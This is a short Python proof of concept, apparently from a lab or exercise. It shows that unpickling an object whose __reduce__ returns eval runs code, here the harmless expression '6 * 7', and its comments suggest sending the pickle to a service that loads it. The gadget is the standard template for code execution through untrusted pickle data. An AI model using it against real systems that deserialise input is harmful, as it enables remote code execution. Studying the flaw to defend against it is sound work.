# CPython's pickle calls what a pickle names, here eval.
# Send it to the board, and look at what that says.
class Harmless:
    def __reduce__(self):
        return eval, ("6 * 7",)


obj = Harmless()
